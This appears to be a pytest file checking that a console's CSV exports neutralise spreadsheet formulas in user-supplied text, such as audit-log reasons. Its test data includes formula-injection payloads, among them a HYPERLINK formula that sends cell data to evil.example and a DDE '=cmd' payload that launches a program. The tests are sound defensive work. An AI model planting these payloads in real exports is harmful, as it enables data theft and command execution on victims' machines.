"""What others wrote is exported as text: no spreadsheet calculates it, or calls a program."""

import csv
import io
from collections.abc import Sequence

import pytest

from orchestrator.console.tables import CellsOfText, _as_text
from tests.world.console import Browser
from tests.world.tenant import Tenant

FORMULAS = (
    *('=HYPERLINK("https://evil.example/?"&A1,"see")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1"),
    *("  =cmd|'/c calc'!A0", '"=1+1', "'=1+1", "harmless;=1+1", 'harmless;" =1+1', "two lines\n=1+1", "a\t@SUM(1)"),
)
HARMLESS = ("anna", "it cost 3-4 €, =not at its beginning", "a;b", "mail@example.org", "1-1")


def begins_formula(cell: str) -> bool:
    return cell.lstrip(' \t\r\n"').startswith(("=", "+", "-", "@", "＝"))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_like_a_formula_whatever_ends_a_cell(text: str) -> None:
    shown = _as_text(text)
    assert not begins_formula(shown)
    for delimiter in ";\t":
        cells = [cell for line in shown.splitlines() for cell in line.split(delimiter)]
        assert [cell for cell in cells if begins_formula(cell)] == []


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert _as_text(text) == text


async def exported(browser: Browser, key: str, search: str) -> Sequence[dict[str, str]]:
    params = {"name": "export", "all": "1", "_list_query": f"?q={search}"}
    headers = {"X-CSRFToken": await browser.csrf()}
    form = {"format": "csv", "scope": "selected"}
    answer = await browser.http.post(f"/console/_api/{key}/action", params=params, data=form, headers=headers)
    assert answer.headers["Content-Type"].startswith("text/csv"), answer.text
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


async def test_a_reason_that_somebody_gave_is_no_formula_in_the_audit_log(admin: Browser, tenant: Tenant) -> None:
    for text in FORMULAS:
        changed = await tenant.panel.http.put(
            f"/v1/tenants/{tenant.name}", params={"reason": text}, json={"idle_hours": 20 + len(text)}
        )
        assert changed.is_success
        await tenant.panel.http.put(f"/v1/tenants/{tenant.name}", json={"idle_hours": 20})
    rows = await exported(admin, "audit", tenant.name)
    assert len(rows) > len(FORMULAS)
    assert [cell for row in rows for cell in row.values() if begins_formula(cell)] == []


async def test_numbers_stay_numbers(admin: Browser, tenant: Tenant) -> None:
    (row,) = await exported(admin, "tenants", tenant.name)
    assert (row["Accounts"], float(row["Idle hours"])) == ("0", 24)
    exporter = CellsOfText()
    assert await exporter.generate([], []) == b"\r\n"
